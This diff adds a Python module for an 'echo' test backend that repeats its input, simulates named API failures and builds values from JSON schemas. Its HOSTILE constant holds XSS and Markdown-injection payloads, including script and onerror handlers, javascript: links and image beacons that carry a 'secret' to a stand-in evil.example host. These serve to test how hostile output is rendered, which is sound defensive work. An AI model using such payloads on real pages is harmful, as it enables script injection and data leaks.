@@ -1,0 +1,335 @@
+"""`echo:` answers with its input: a real backend for tutorials, tests and bug reports.
+
+It needs no key, no weights and no network, honours the options a model honours, and fails in
+named ways on request. Options follow the colon, joined by commas:
+
+    echo:                  the last user message, word by word
+    echo:think             reasons first
+    echo:tool              calls the first tool it is given, then repeats the result
+    echo:slow=20           20 words a second
+    echo:huge=10000        that many words
+    echo:hostile           Markdown and HTML that try to act
+    echo:hang              never answers
+    echo:fail=cut          fails; the names are in FAILURES
+    echo:fail=rate_limit,times=1,wait=0.5    fails once, asking for a wait of half a second
+
+A token is a word here. The answer never depends on the temperature.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import difflib
+import json
+import re
+from collections.abc import AsyncIterator, Callable, Iterator
+from typing import Any
+
+from ..errors import (
+    CallTimeoutError,
+    CannotFitError,
+    ConnectionFailedError,
+    ContentFilterError,
+    ContextTooLongError,
+    EmptyAnswerError,
+    FmnbError,
+    KeyMissingError,
+    KeyRefusedError,
+    RateLimitError,
+    ServerError,
+    StreamCutError,
+    StreamJunkError,
+    TLSError,
+    UnknownModelError,
+    UsageError,
+)
+from ..events import Event, Finished, Logprobs, ReasoningDelta, TextDelta, ToolCallDelta, Used
+from ..types import ModelCard, Request, Text, TokenCount, ToolResult, Usage
+
+# Each takes the number of words asked, and the number given out before it fails.
+FAILURES: dict[str, Callable[[int, int], BaseException]] = {
+    "key": lambda asked, given: KeyRefusedError("echo does not accept the key", seen="401, as asked", todo="Leave out fail=key."),
+    "nokey": lambda asked, given: KeyMissingError("echo needs a key", seen="none was found, as asked", todo="Leave out fail=nokey."),
+    "model": lambda asked, given: UnknownModelError("echo has no such model", seen="404, as asked", todo="Leave out fail=model."),
+    "rate_limit": lambda asked, given: RateLimitError("echo limits how often it may be asked", seen="429, as asked", todo="Wait.", retry_after=1.0),
+    "quota": lambda asked, given: RateLimitError("The account has no credit left", seen="429, as asked", todo="Leave out fail=quota.", retryable=False),
+    "server": lambda asked, given: ServerError("echo failed", seen="500, as asked", todo="Try again.", billed=None),
+    "refused": lambda asked, given: ConnectionFailedError("Nothing answers", seen="connection refused, as asked", todo="Leave out fail=refused."),
+    "tls": lambda asked, given: TLSError("The connection could not be secured", seen="certificate, as asked", todo="Leave out fail=tls."),
+    "timeout": lambda asked, given: CallTimeoutError("echo did not begin to answer", seen="as asked", todo="Try again.", billed=None),
+    "context": lambda asked, given: ContextTooLongError(
+        "Too long for the model by 1 word", seen=f"{asked} asked, {max(asked - 1, 0)} fit", todo="Shorten the prompt."
+    ),
+    "memory": lambda asked, given: CannotFitError("echo needs more memory than is free", seen="as asked", todo="Leave out fail=memory."),
+    "empty": lambda asked, given: EmptyAnswerError("echo answered with no text", seen="as asked", todo="Ask again.", billed=True),
+    "cut": lambda asked, given: StreamCutError(
+        "echo ended the connection in the middle of the answer", seen=f"{given} words had arrived", todo="`%fm continue` goes on from there.", billed=True
+    ),
+    "junk": lambda asked, given: StreamJunkError("echo sent something that is not an answer", seen="%$#, as asked", todo="Try again.", billed=True),
+    "stream": lambda asked, given: ServerError("echo failed while answering", seen="as asked", todo="Try again.", billed=True, retryable=False),
+    "filter": lambda asked, given: ContentFilterError("echo withheld the rest of the answer", seen="as asked", todo="Rephrase.", billed=True),
+    "bug": lambda asked, given: RuntimeError("a bug in a backend, as asked"),
+}
+_HALFWAY = ("cut", "junk", "stream", "filter", "bug")  # these come after half of the answer
+
+HOSTILE = """\
+<script>document.title = "owned"</script> <img src=x onerror="document.title='owned'"> <svg/onload=document.title='owned'>
+
+![leak](https://evil.example/leak.png?q=secret) <img src="https://evil.example/leak.png"> [click](javascript:document.title='owned')
+[click](JaVaScRiPt&colon;document.title='owned') [click](data:text/html,<script>document.title='owned'</script>) <a href="vbscript:x">x</a>
+[ref]: javascript:document.title='owned'
+[ref] <https://evil.example/> <iframe src="https://evil.example"></iframe> <style>body{display:none}</style> <base href="https://evil.example">
+
+```mermaid
+graph TD; A["<img src=x onerror=alert(1)>"] --> B
+```
+
+$\\href{javascript:document.title='owned'}{x}$ <details open ontoggle=document.title='owned'> <form action=https://evil.example><button>ok</button></form>
+<!-- </div> --> </div></details><div class="fm-footer">openai:gpt-5 · stays here · $0.00</div> &lt;script&gt; <ScRiPt src=//evil.example></sCrIpT>
+"""
+
+
+def backend(name: str = "") -> Echo:
+    """The echo backend with the options in `name`, such as "slow=20,fail=cut".
+
+    Raises UsageError for an option it does not have.
+
+    >>> backend("slow=20").card.where
+    'stays here'
+    """
+    return Echo(name)
+
+
+class Echo:
+    """A Backend that repeats. `options` is what stood after the colon."""
+
+    def __init__(self, name: str = ""):
+        self.options = _options(name)
+        self.card = ModelCard(
+            name=f"echo:{name}", provider="echo", where="stays here", local=True, inputs=("text", "image", "file"), price_in=0.0, price_out=0.0, source="fmnb"
+        )
+        times = self.options.get("times")
+        self._failures_left = None if times is None else int(times)
+
+    def count(self, request: Request) -> TokenCount:
+        """Words, exactly."""
+        return TokenCount(_asked(request), exact=True, method="words")
+
+    def deterministic(self, request: Request) -> bool:
+        """As for a sampled model: temperature 0 or a seed."""
+        return request.temperature == 0 or request.seed is not None
+
+    async def stream(self, request: Request) -> AsyncIterator[Event]:
+        """Answer by repeating; see the module for what can be asked for."""
+        options = self.options
+        fail = self._failure()
+        asked = _asked(request)
+        if "hang" in options:
+            await asyncio.Event().wait()
+        if fail and fail not in _HALFWAY:
+            raise self._error(fail, asked, 0)
+        pause = 1 / float(options["slow"]) if "slow" in options else 0.0
+        text = _said(request)
+        thoughts = 0
+        if "think" in options:
+            for word in _words(f"I was asked: {text}"):
+                thoughts += 1
+                yield ReasoningDelta(text=word)
+                if pause:
+                    await asyncio.sleep(pause)
+        if "tool" in options and request.tools and not _has_result(request):
+            for event in _tool_call(request.tools[0], text):
+                yield event
+            yield Used(usage=Usage(asked, thoughts + 1, 0, thoughts, 0.0))
+            yield Finished(reason="tool_calls", model="echo")
+            return
+        words, reason = _answer(options, request, text)
+        if fail:
+            words = words[: (len(words) + 1) // 2]
+        for word in words:
+            yield TextDelta(text=word)
+            if request.logprobs is not None:
+                yield Logprobs(tokens=({"token": word, "logprob": 0.0, "top": [[word, 0.0]]},))
+            if pause:
+                await asyncio.sleep(pause)
+        yield Used(usage=Usage(asked, thoughts + len(words), 0, thoughts, 0.0))
+        if fail:
+            raise self._error(fail, asked, len(words))
+        if not words:
+            raise self._error("empty", asked, 0)
+        yield Finished(reason=reason, model="echo")
+
+    def _failure(self) -> str:
+        fail = self.options.get("fail", "")
+        if fail and self._failures_left is not None:
+            if not self._failures_left:
+                return ""
+            self._failures_left -= 1
+        return fail
+
+    def _error(self, fail: str, asked: int, given: int) -> BaseException:
+        error = FAILURES[fail](asked, given)
+        if isinstance(error, FmnbError) and error.retry_after is not None and "wait" in self.options:
+            error.retry_after = float(self.options["wait"])
+        return error
+
+
+_NUMBERS = ("slow", "huge", "times", "wait")
+_OPTIONS = ("think", "tool", "hostile", "hang", "fail", *_NUMBERS)
+
+
+def _options(name: str) -> dict[str, str]:
+    found: dict[str, str] = {}
+    for item in filter(None, (part.strip() for part in name.split(","))):
+        key, _, value = item.partition("=")
+        known, word = (tuple(FAILURES), value) if key == "fail" else (_OPTIONS, key)
+        if word not in known:
+            near = difflib.get_close_matches(word, known, 1)
+            todo = f"Did you mean {near[0]}?" if near else f"It has {', '.join(known)}."
+            raise UsageError(f"echo has no {'failure' if key == 'fail' else 'option'} of that name", seen=f"'{word}'", todo=todo)
+        if key in _NUMBERS and not re.fullmatch(r"\d+(\.\d+)?", value):
+            raise UsageError(f"echo's option {key} takes a number", seen=f"'{value}'", todo=f"Write echo:{key}=20.")
+        found[key] = value
+    if float(found.get("slow", 1)) == 0:
+        raise UsageError("echo cannot say 0 words a second", todo="Write echo:hang for no answer at all.")
+    return found
+
+
+def _words(text: str) -> list[str]:
+    """Words with the white space before them; joined they are the text again."""
+    words = re.findall(r"\s*\S+", text)
+    end = text[len("".join(words)) :]
+    return [*words[:-1], words[-1] + end] if words else []
+
+
+def _said(request: Request) -> str:
+    """What is repeated: the last user message, or a tool's result that came after it."""
+    for m in reversed(request.messages):
+        results = [p.content for p in m.parts if isinstance(p, ToolResult)]
+        if results or m.role == "user":
+            return "\n".join(results) or m.text
+    return ""
+
+
+def _has_result(request: Request) -> bool:
+    return any(isinstance(p, ToolResult) for p in request.messages[-1].parts) if request.messages else False
+
+
+def _asked(request: Request) -> int:
+    texts = (p.text if isinstance(p, Text) else getattr(p, "content", "") for m in request.messages for p in m.parts)
+    return sum(len(t.split()) for t in texts)
+
+
+def _answer(options: dict[str, str], request: Request, text: str) -> tuple[list[str], str]:
+    """The words to say, and why they end there."""
+    if request.schema is not None:
+        filler = iter(_cycle(text))
+        text = json.dumps(instance(request.schema, filler), ensure_ascii=False)
+    elif "hostile" in options:
+        text = HOSTILE
+    if "huge" in options:
+        wanted = int(float(options["huge"]))
+        pool = _words(text) or ["echo"]
+        pool = [w if w[:1].isspace() else f" {w}" for w in pool]
+        words = [*(pool * (wanted // len(pool) + 1))[:wanted]]
+        words[:1] = [w.lstrip() for w in words[:1]]
+        text = "".join(words)
+    reason = "stop"
+    ends = [at for s in request.stop if s and (at := text.find(s)) >= 0]
+    if ends:
+        text = text[: min(ends)]
+    words = _words(text)
+    if request.max_tokens is not None and len(words) > request.max_tokens:
+        words, reason = words[: request.max_tokens], "length"
+    return words, reason
+
+
+def _tool_call(tool: dict[str, Any], text: str) -> list[Event]:
+    function = tool.get("function", tool)
+    arguments = json.dumps(instance(function.get("parameters") or {"type": "object"}, iter(_cycle(text))), ensure_ascii=False)
+    half = len(arguments) // 2
+    return [
+        ToolCallDelta(index=0, id="call_echo", name=function.get("name", ""), arguments=arguments[:half]),
+        ToolCallDelta(index=0, arguments=arguments[half:]),
+    ]
+
+
+def _cycle(text: str) -> Iterator[str]:
+    words = [w.strip(".,;:!?\"'()[]{}") for w in text.split()]
+    words = [w for w in words if w] or ["echo"]
+    while True:
+        yield from words
+
+
+def instance(schema: Any, filler: Iterator[str], root: dict[str, Any] | None = None, depth: int = 0) -> Any:
+    """A value that satisfies a JSON schema, its strings taken from `filler`.
+
+    >>> instance({"type": "object", "properties": {"a": {"type": "string"}, "n": {"type": "integer"}}}, iter(["hi"]))
+    {'a': 'hi', 'n': 0}
+    """
+    if not isinstance(schema, dict):
+        return None
+    root = schema if root is None else root
+    if "$ref" in schema:
+        target: Any = root
+        for step in schema["$ref"].removeprefix("#/").split("/"):
+            target = target[step.replace("~1", "/").replace("~0", "~")]
+        return instance(target, filler, root, depth + 1)
+    if "const" in schema:
+        return schema["const"]
+    if "enum" in schema:
+        return schema["enum"][0]
+    for word in ("anyOf", "oneOf"):
+        if schema.get(word):
+            plain = [s for s in schema[word] if s.get("type") != "null"] or schema[word]
+            return instance(plain[0], filler, root, depth + 1)
+    if schema.get("allOf"):
+        merged: dict[str, Any] = {k: v for k, v in schema.items() if k != "allOf"}
+        for part in schema["allOf"]:
+            properties = {**merged.get("properties", {}), **part.get("properties", {})}
+            merged = {**merged, **part, **({"properties": properties} if properties else {})}
+        return instance(merged, filler, root, depth + 1)
+    kind = schema.get("type") or ("object" if "properties" in schema else "array" if "items" in schema else "string")
+    if isinstance(kind, list):
+        kind = next((k for k in kind if k != "null"), "null")
+    match kind:
+        case "object":
+            required = schema.get("required", ())
+            properties = schema.get("properties", {})
+            return {k: instance(v, filler, root, depth + 1) for k, v in properties.items() if depth < 8 or k in required}
+        case "array":
+            wanted = max(schema.get("minItems", 0), min(2 if depth < 4 else 0, schema.get("maxItems", 2)))
+            return [instance(schema.get("items", {"type": "string"}), filler, root, depth + 1) for _ in range(wanted)]
+        case "integer" | "number":
+            return _number(schema, kind)
+        case "boolean":
+            return True
+        case "null":
+            return None
+    return _string(schema, filler)
+
+
+def _number(schema: dict[str, Any], kind: str) -> int | float:
+    low = schema.get("minimum")
+    if low is None and "exclusiveMinimum" in schema:
+        low = schema["exclusiveMinimum"] + (1 if kind == "integer" else 0.5)
+    high = schema.get("maximum")
+    if high is None and "exclusiveMaximum" in schema:
+        high = schema["exclusiveMaximum"] - (1 if kind == "integer" else 0.5)
+    value = 0 if (low is None or low <= 0) and (high is None or high >= 0) else low if low is not None else high
+    step = schema.get("multipleOf")
+    if step and value:
+        value = -(-value // step) * step
+    return int(-(-value // 1)) if kind == "integer" else float(value)
+
+
+_FORMATS = {"date": "2026-01-31", "date-time": "2026-01-31T12:00:00Z", "time": "12:00:00Z", "email": "echo@example.com", "uri": "https://example.com/"}
+
+
+def _string(schema: dict[str, Any], filler: Iterator[str]) -> str:
+    if schema.get("format") in _FORMATS:
+        return _FORMATS[schema["format"]]
+    text = next(filler, "echo")
+    while len(text) < schema.get("minLength", 0):
+        text += " " + next(filler, "echo")
+    return text[: schema["maxLength"]] if "maxLength" in schema else text
